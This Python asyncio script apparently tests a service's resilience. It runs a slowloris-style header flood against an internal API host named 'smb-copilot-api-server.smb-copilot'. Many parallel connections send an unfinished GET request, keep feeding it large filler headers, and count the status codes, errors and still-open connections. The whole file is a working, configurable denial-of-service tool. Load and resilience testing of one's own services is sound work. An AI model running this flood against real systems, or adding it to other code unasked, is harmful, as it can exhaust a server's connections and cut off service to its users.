"""Opens connections to the API and never finishes their headers. Returns the number of each event."""
import asyncio, collections, time

HOST = "smb-copilot-api-server.smb-copilot"
BLOCK = b"x-filler: " + b"a" * 7900 + b"\r\n"

async def connection(counts, deadline, limit):
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, 80), 5)
        except (OSError, asyncio.TimeoutError) as error:
            counts["connection " + type(error).__name__] += 1
            await asyncio.sleep(0.5)
            continue
        counts["connection opened"] += 1
        try:
            writer.write(b"GET /v1/me HTTP/1.1\r\nhost: api\r\n")
            answer = asyncio.ensure_future(reader.readline())
            sent = 0
            while time.monotonic() < deadline and not answer.done():
                if sent + len(BLOCK) < limit:
                    writer.write(BLOCK)
                    sent += len(BLOCK)
                    await asyncio.wait([answer], timeout=0.02)
                else:
                    await asyncio.wait([answer], timeout=0.5)
            if answer.done():
                status = answer.result().decode().split(" ")
                counts["HTTP " + status[1] if len(status) > 1 else "connection closed"] += 1
            else:
                answer.cancel()
                counts["connection still open"] += 1
        except OSError as error:
            counts["connection " + type(error).__name__] += 1
        finally:
            writer.close()
        await asyncio.sleep(0.2)

async def flood(seconds, parameters):
    counts, deadline = collections.Counter(), time.monotonic() + seconds
    await asyncio.gather(*(connection(counts, deadline, parameters["bytes"]) for _ in range(parameters["connections"])))
    return dict(counts)

def run(input, ctx):
    return asyncio.run(flood(input["seconds"], input["parameters"]))
